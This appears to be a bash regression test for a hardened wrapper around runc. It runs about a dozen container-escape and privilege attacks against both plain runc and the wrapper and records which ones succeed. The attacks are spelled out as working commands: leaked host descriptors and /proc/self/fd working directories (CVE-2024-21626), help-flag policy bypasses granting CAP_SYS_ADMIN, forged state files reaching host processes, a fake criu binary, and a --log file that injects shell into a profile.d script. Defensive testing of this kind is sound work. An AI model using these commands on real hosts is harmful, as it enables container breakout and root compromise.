#!/bin/bash
# Command-line attacks: runc's own command line, as anyone who may call the
# runtime writes it (dockerd and containerd never spell these, so the
# docker suite in run.sh cannot reach them).  Each attack runs once with
# plain runc and once with hardened-runc in its place (the shipped policy,
# enforcing), the same arguments and descriptors.
#
#   bash test/attacks/cli.sh OUT-DIR
#
# writes OUT-DIR/cli-results.tsv (id, plain runc status, hardened status,
# what happened under each) and prints the table.  Exit 77 when a
# prerequisite is missing.  Nothing outside a mktemp directory is written;
# the host directory the descriptor attacks reach is a marker directory of
# that temporary tree.
. "$(dirname "$0")/../integration/lib.sh"

need_runc_suite
need "python3 (O_PATH descriptors)" command -v python3
[ $# = 1 ] || { echo "usage: $0 OUT-DIR" >&2; exit 2; }
OUT=$1
mkdir -p "$OUT"

work_dir cliattack
make_rootfs "$W/rootfs"
ln -s /proc/self/fd "$W/rootfs/x" # an image's own link to the descriptors
mkdir -p "$W/host"
echo "host-secret-$$" > "$W/host/marker"
test_policy "$W/policy.json" "$W/audit.log"

# bundle NAME SCRIPT: a container that asks for every capability this
# machine has, runs as root without no_new_privileges
bundle() {
  local b="$W/$1"
  runc_bundle "$b" '.process.args = ["sh", "-c", $s] | dangerous($hostcaps)' --arg s "$2"
  cp "$b/config.json" "$b/pristine.json"
  echo "$b"
}
# the shim hardens config.json in place: each run starts from the original
fresh() { cp "$1/pristine.json" "$1/config.json"; }
CAPS_B=$(bundle caps 'grep CapEff /proc/self/status')
FD_B=$(bundle fd 'cat /proc/self/fd/3/marker 2>&1; true')
SLEEP_B=$(bundle sleep 'sleep 100000')

# a long-running container for exec and update, created through the shim
# (as a hardened host would have it)
C=hr-cliattack-$$
STARTED+=("$C")
"$SHIM" --policy "$W/policy.json" run -d --bundle "$SLEEP_B" "$C" > /dev/null 2>&1 < /dev/null
need "a container to exec into" test "$(runc state "$C" 2>/dev/null | jq -r .status)" = running
# and one started by plain runc whose init holds a host directory (fd 3)
C2=hr-cliattack-fd-$$
STARTED+=("$C2")
HOLD_B=$(bundle hold 'sleep 100000')
runc run -d --preserve-fds 1 --bundle "$HOLD_B" "$C2" > /dev/null 2>&1 3< "$W/host" < /dev/null
need "a container holding a host directory" test "$(runc state "$C2" 2>/dev/null | jq -r .status)" = running
# and a sibling whose name starts with the first one's: its cgroup is /$C-sib
# next to /$C (runc's own choice without linux.cgroupsPath)
SIB=$C-sib
STARTED+=("$SIB")
SIB_B=$(bundle sib 'sleep 100000')
runc run -d --bundle "$SIB_B" "$SIB" > /dev/null 2>&1 < /dev/null
need "a sibling container" test "$(runc state "$SIB" 2>/dev/null | jq -r .status)" = running

N=0
newid() { N=$((N + 1)); ID=hr-cliattack-$$-$N; STARTED+=("$ID"); }
has_sys_admin() { # CapEff hex on stdin: bit 21
  local hex
  hex=$(sed -n 's/.*CapEff:[[:space:]]*\([0-9a-f]*\).*/\1/p' | head -n 1)
  [ -n "$hex" ] && [ $(((16#$hex >> 21) & 1)) = 1 ]
}

ROWS=()
# row ID DESCRIPTION PLAIN-STATUS HARDENED-STATUS PLAIN-WHAT HARDENED-WHAT
row() {
  ROWS+=("$1"$'\t'"$2"$'\t'"$3"$'\t'"$4"$'\t'"$5"$'\t'"$6")
  printf '%-24s runc: %-9s hardened-runc: %-9s\n' "$1" "$3" "$4" >&2
}
# what the shim said, or the last line of the output
said() { printf '%s' "$1" | grep -o 'hardened-runc: .*' | head -n 1 | cut -c1-400 || true; }
short() { printf '%s' "$1" | tr '\n\t' '  ' | cut -c1-120; }

# ---- 1. --help=false: "help", so the shim once passed the command on ------
help_run() { # help_run RUNTIME... : run --help=false; did the process get CAP_SYS_ADMIN?
  local out
  newid
  fresh "$CAPS_B"
  out=$("$@" run "$HELPFORM" --bundle "$CAPS_B" "$ID" 2>&1 < /dev/null)
  if printf '%s' "$out" | has_sys_admin; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep CapEff)")$(said "$out")"
}
for HELPFORM in --help=false -h=0 --help=f; do
  help_run runc; ps=$STATUS pw=$WHAT
  help_run "$SHIM" --policy "$W/policy.json"; row "help-false-run$HELPFORM" "run $HELPFORM: the container asks for every capability" "$ps" "$STATUS" "$pw" "$WHAT"
done

help_create() {
  local out
  newid
  fresh "$CAPS_B"
  out=$( { "$@" create -help=False --bundle "$CAPS_B" "$ID" < /dev/null && runc start "$ID"; } 2>&1)
  if printf '%s' "$out" | has_sys_admin; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep CapEff)")$(said "$out")"
}
help_create runc; ps=$STATUS pw=$WHAT
help_create "$SHIM" --policy "$W/policy.json"
row help-false-create "create -help=False, then start" "$ps" "$STATUS" "$pw" "$WHAT"

help_exec() {
  local out
  out=$("$@" exec -h=0 --cap CAP_SYS_ADMIN "$C" grep CapEff /proc/self/status 2>&1 < /dev/null)
  if printf '%s' "$out" | has_sys_admin; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep CapEff)")$(said "$out")"
}
help_exec runc; ps=$STATUS pw=$WHAT
help_exec "$SHIM" --policy "$W/policy.json"
row help-false-exec "exec -h=0 --cap CAP_SYS_ADMIN" "$ps" "$STATUS" "$pw" "$WHAT"

help_update() {
  local out pids
  runc update --pids-limit 100 "$C" > /dev/null 2>&1
  out=$("$@" update --help=f --pids-limit -1 "$C" 2>&1 < /dev/null)
  pids=$(runc exec "$C" cat /sys/fs/cgroup/pids/pids.max 2>/dev/null)
  if [ "$pids" = max ]; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="pids.max $pids $(said "$out")"
}
help_update runc; ps=$STATUS pw=$WHAT
help_update "$SHIM" --policy "$W/policy.json"
row help-false-update "update --help=f --pids-limit -1 (remove the pids limit)" "$ps" "$STATUS" "$pw" "$WHAT"

help_restore() {
  local out
  newid
  fresh "$CAPS_B"
  out=$("$@" restore --help=false --image-path "$W/no-image" --bundle "$CAPS_B" "$ID" 2>&1 < /dev/null)
  # runc went ahead with the restore: it looked into the image directory
  if printf '%s' "$out" | grep -q 'descriptors.json'; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep -o 'open [^"]*descriptors.json[^"]*' | head -n 1)")$(said "$out")"
}
help_restore runc; ps=$STATUS pw=$WHAT
help_restore "$SHIM" --policy "$W/policy.json"
row help-false-restore "restore --help=false (rule restore: deny)" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 2. exec --no-new-privs=false ------------------------------------------
nnp() {
  local out
  out=$("$@" exec --no-new-privs=false -u 1000 "$C" grep NoNewPrivs /proc/self/status 2>&1 < /dev/null)
  case "$out" in *"NoNewPrivs:"*0*) STATUS=succeeded ;; *) STATUS=stopped ;; esac
  WHAT="$(short "$(printf '%s' "$out" | grep NoNewPrivs)")$(said "$out")"
}
nnp runc; ps=$STATUS pw=$WHAT
nnp "$SHIM" --policy "$W/policy.json"
row exec-no-new-privs-false "exec --no-new-privs=false" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 3. uid 0 spelled so that "-u 0" does not match (restricted) -----------
as_root() {
  local out
  out=$("$@" exec -u "$SPELL" "$C" id -u 2>&1 < /dev/null)
  if [ "$(printf '%s' "$out" | tail -n 1)" = 0 ]; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="id -u: $(short "$(printf '%s' "$out" | tail -n 1)") $(said "$out")"
}
for SPELL in 00 +0 0:0 -0 4294967296; do
  as_root runc; ps=$STATUS pw=$WHAT
  as_root "$SHIM" --policy "$W/policy.json" --profile restricted
  row "exec-root-$SPELL" "exec -u $SPELL under the restricted profile (no root)" "$ps" "$STATUS" "$pw" "$WHAT"
done

# ---- 4. working directories that lead to /proc/self/fd ---------------------
# fd 3 is a host directory.  runc 1.1.5 as released enters it (the escape of
# CVE-2024-21626); Debian's runc carries the fix and stops after chdir with
# "possible container breakout detected": either shows that the spelling
# reached the host directory.
cwd_attack() {
  local out
  out=$("$@" exec --preserve-fds 1 --cwd "$SPELL" "$C" cat marker 2>&1 3< "$W/host" < /dev/null)
  if printf '%s' "$out" | grep -q -e "host-secret-$$" -e 'possible container breakout detected'; then
    STATUS=succeeded
  else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep -o -e "host-secret-$$" -e 'possible container breakout detected' | head -n 1)")$(said "$out")"
}
for SPELL in /proc/thread-self/fd/3 /dev/fd/3 /x/3 /proc/self/root/proc/self/fd/3; do
  cwd_attack runc; ps=$STATUS pw=$WHAT
  cwd_attack "$SHIM" --policy "$W/policy.json"
  row "cwd-${SPELL//\//_}" "exec --cwd $SPELL (fd 3: a host directory)" "$ps" "$STATUS" "$pw" "$WHAT"
done
# through another process's thread: the container's init (pid 1, thread 1)
# holds the host directory as its fd 3
cwd_task() {
  local out
  out=$("$@" exec --cwd /proc/1/task/1/fd/3 "$C2" cat marker 2>&1 < /dev/null)
  if printf '%s' "$out" | grep -q -e "host-secret-$$" -e 'possible container breakout detected'; then
    STATUS=succeeded
  else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep -o -e "host-secret-$$" -e 'possible container breakout detected' | head -n 1)")$(said "$out")"
}
cwd_task runc; ps=$STATUS pw=$WHAT
cwd_task "$SHIM" --policy "$W/policy.json"
row cwd-proc-1-task-1-fd "exec --cwd /proc/1/task/1/fd/3 (the init's fd 3: a host directory)" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 5. host directories handed over as descriptors ------------------------
# judge_marker OUTPUT : STATUS succeeded when the container read the host's
# marker file, WHAT what it and the shim said
judge_marker() {
  case "$1" in *"host-secret-$$"*) STATUS=succeeded ;; *) STATUS=stopped ;; esac
  WHAT="$(short "$(printf '%s' "$1" | grep -o "host-secret-$$")")$(said "$1")"
}
fd_exec() {
  local out
  out=$("$@" exec --preserve-fds 1 "$C" cat /proc/self/fd/3/marker 2>&1 3< "$W/host" < /dev/null)
  judge_marker "$out"
}
fd_exec runc; ps=$STATUS pw=$WHAT
fd_exec "$SHIM" --policy "$W/policy.json"
row preserve-fds-exec "exec --preserve-fds 1, fd 3 a host directory" "$ps" "$STATUS" "$pw" "$WHAT"

fd_run() {
  local out
  newid
  fresh "$FD_B"
  out=$("$@" run --preserve-fds=0x1 --bundle "$FD_B" "$ID" 2>&1 3< "$W/host" < /dev/null)
  judge_marker "$out"
}
fd_run runc; ps=$STATUS pw=$WHAT
fd_run "$SHIM" --policy "$W/policy.json"
row preserve-fds-run "run --preserve-fds=0x1, fd 3 a host directory" "$ps" "$STATUS" "$pw" "$WHAT"

fd_opath() {
  local out
  out=$(python3 -c 'import os, sys
fd = os.open(sys.argv[1], os.O_PATH)
if fd != 3:
    os.dup2(fd, 3)
os.set_inheritable(3, True)
os.execvp(sys.argv[2], sys.argv[2:])' "$W/host" "$@" exec --preserve-fds 1 "$C" cat /proc/self/fd/3/marker 2>&1 < /dev/null)
  judge_marker "$out"
}
fd_opath runc; ps=$STATUS pw=$WHAT
fd_opath "$SHIM" --policy "$W/policy.json"
row preserve-fds-opath "exec --preserve-fds 1, fd 3 an O_PATH descriptor of a host directory" "$ps" "$STATUS" "$pw" "$WHAT"

fd_listen() {
  local out
  newid
  # socket activation: runc passes LISTEN_FDS descriptors when LISTEN_PID
  # is its own pid (the shell's, which execs the runtime)
  fresh "$FD_B"
  out=$(sh -c 'LISTEN_PID=$$ LISTEN_FDS=1; export LISTEN_PID LISTEN_FDS; exec "$@"' sh "$@" run --bundle "$FD_B" "$ID" \
    2>&1 3< "$W/host" < /dev/null)
  judge_marker "$out"
}
fd_listen runc; ps=$STATUS pw=$WHAT
fd_listen "$SHIM" --policy "$W/policy.json"
row listen-fds-run "run with LISTEN_FDS=1, fd 3 a host directory" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 6. exec --cgroup into a sibling container's cgroup --------------------
# runc 1.1 joins --cgroup to the container's cgroup and checks only a
# string prefix: from /ID, "../ID-sib" is the cgroup of the container
# ID-sib (its devices, pids and memory limits)
cg_sibling() {
  local out
  out=$("$@" exec --cgroup "../$SIB" "$C" cat /proc/self/cgroup 2>&1 < /dev/null)
  if printf '%s' "$out" | grep -q "pids:.*/$SIB\$"; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep 'pids:')")$(said "$out")"
}
cg_sibling runc; ps=$STATUS pw=$WHAT
cg_sibling "$SHIM" --policy "$W/policy.json"
row exec-cgroup-sibling "exec --cgroup ../ID-sib (another container's cgroup)" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 7. --criu: the program runc runs as root for checkpoint -----------------
printf '#!/bin/sh\necho "ran as uid $(id -u)" > "%s/criu-ran"\nexit 1\n' "$W" > "$W/not-criu"
chmod 0755 "$W/not-criu"
criu_run() {
  local out
  rm -f "$W/criu-ran"
  out=$("$@" --criu "$W/not-criu" checkpoint --image-path "$W/ckpt" "$C" 2>&1 < /dev/null)
  if [ -s "$W/criu-ran" ]; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(cat "$W/criu-ran" 2>/dev/null)")$(said "$out")"
}
criu_run runc; ps=$STATUS pw=$WHAT
criu_run "$SHIM" --policy "$W/policy.json"
row criu-checkpoint "--criu PROGRAM checkpoint (the caller's program run as root)" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 8. exec with a --root whose state another user wrote --------------------
# runc joins the namespaces of the init process its state names: a state
# written by the caller (runc's own state of a container, its init pid and
# start time changed to a host process's) puts the exec'd process on the
# host.  The forged tree belongs to uid 65534, as a caller's own would.
TPL=hr-cliattack-tpl-$$
runc --root "$W/tplroot" run -d --bundle "$SLEEP_B" "$TPL" > /dev/null 2>&1 < /dev/null
cp "$W/tplroot/$TPL/state.json" "$W/template-state.json"
runc --root "$W/tplroot" delete -f "$TPL" > /dev/null 2>&1
# host_sleeper : HOSTPID, a host process (stopped at exit)
host_sleeper() {
  sleep 100000 < /dev/null > /dev/null 2>&1 &
  HOSTPID=$!
  at_exit "kill $HOSTPID 2> /dev/null"
}
# forge DIR : DIR/$TPL/state.json, runc's state with HOSTPID as the init,
# the whole tree uid 65534's
forge() {
  mkdir -p "$1/$TPL"
  jq --argjson p "$HOSTPID" --argjson st "$(awk '{print $22}' /proc/$HOSTPID/stat)" --arg id "$TPL" \
    '.init_process_pid = $p | .init_process_start = $st | .cgroup_paths |= with_entries(.value |= sub("/" + $id + "$"; ""))' \
    "$W/template-state.json" > "$1/$TPL/state.json"
  chown -R 65534 "$1"
}
host_sleeper
forge "$W/forged"
forged_root() {
  local out
  out=$("$@" --root "$W/forged" exec "$TPL" sh -c "cat $W/host/marker; readlink /proc/self/ns/mnt" 2>&1 < /dev/null)
  if printf '%s' "$out" | grep -q "host-secret-$$" && printf '%s' "$out" | grep -qF "$(readlink /proc/self/ns/mnt)"; then
    STATUS=succeeded
  else STATUS=stopped; fi
  WHAT="$(short "$(printf '%s' "$out" | grep -e "host-secret-$$" -e '^mnt:')")$(said "$out")"
}
forged_root runc; ps=$STATUS pw=$WHAT
forged_root "$SHIM" --policy "$W/policy.json"
row exec-forged-root "exec --root DIR, the state another user's (init: a host process)" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 9. --pid-file over a host file -----------------------------------------
# runc renames the pid file into place as root: any existing file is
# replaced by the container's pid
pid_file() {
  local out
  newid
  echo "host-file-$$" > "$W/victim"
  fresh "$SLEEP_B"
  # (a file, not $(...): the detached container would hold the pipe open)
  "$@" run -d --pid-file "$W/victim" --bundle "$SLEEP_B" "$ID" > "$W/pid-file.out" 2>&1 < /dev/null
  out=$(cat "$W/pid-file.out")
  if [ "$(cat "$W/victim")" != "host-file-$$" ]; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(cat "$W/victim")")$(said "$out")"
  runc delete -f "$ID" > /dev/null 2>&1
}
pid_file runc; ps=$STATUS pw=$WHAT
pid_file "$SHIM" --policy "$W/policy.json"
row pid-file-replace "run --pid-file FILE, FILE an existing host file" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 10. kill with a --root whose state another user wrote -------------------
# the same forged state (passed through: kill is not hardened): runc signals
# the host process it names as the init
kill_forged() { # kill_forged NAME RUNTIME...
  local out name=$1
  shift
  host_sleeper
  forge "$W/forged-kill-$name"
  out=$("$@" --root "$W/forged-kill-$name" kill "$TPL" KILL 2>&1 < /dev/null)
  # gone within 10 s (runc signalled it), or still there
  if timeout 10 tail --pid="$HOSTPID" -f /dev/null; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="host process $HOSTPID $([ $STATUS = succeeded ] && echo killed || echo alive)$(said "$out")"
}
kill_forged plain runc; ps=$STATUS pw=$WHAT
kill_forged shim "$SHIM" --policy "$W/policy.json"
row kill-forged-root "kill --root DIR, the state another user's (init: a host process)" "$ps" "$STATUS" "$pw" "$WHAT"

# ---- 11. --log: a new root-owned file of the caller's text ------------------
# runc creates the --log file as root and writes its error there, text from
# the caller included (here the bundle path): named in a directory the host
# sources (a stand-in for /etc/profile.d), a "$(...)" in it runs as root at
# the next login.  (/etc/ld.so.preload is the other classic.)
log_file() {
  local out
  newid
  rm -rf "$W/profile.d" "$W/log-ran"
  mkdir -p "$W/profile.d"
  out=$("$@" --log "$W/profile.d/z.sh" create --bundle "$W/nb\$(touch $W/log-ran)" "$ID" 2>&1 < /dev/null)
  [ -f "$W/profile.d/z.sh" ] && sh -c ". '$W/profile.d/z.sh'" > /dev/null 2>&1
  if [ -e "$W/log-ran" ]; then STATUS=succeeded; else STATUS=stopped; fi
  WHAT="$(short "$(cat "$W/profile.d/z.sh" 2>/dev/null)")$(said "$out")"
}
log_file runc; ps=$STATUS pw=$WHAT
log_file "$SHIM" --policy "$W/policy.json"
row log-file-create "--log FILE, a new file of the caller's text (a profile.d script)" "$ps" "$STATUS" "$pw" "$WHAT"

printf '%s\n' "${ROWS[@]}" > "$OUT/cli-results.tsv"
